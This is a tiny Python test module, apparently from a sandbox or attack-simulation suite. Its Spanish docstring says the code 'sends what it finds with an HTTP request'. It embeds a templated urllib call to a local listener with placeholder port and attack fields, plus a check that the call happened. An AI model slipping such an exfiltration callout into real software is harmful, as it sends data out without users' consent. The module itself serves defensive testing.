"""Manda lo que encuentra con una petición HTTP."""

CODE = """
import urllib.request
urllib.request.urlopen("http://127.0.0.1:@PUERTO@/<@ATAQUE@>", timeout=2)
"""


def succeeded(world):
    return world.called
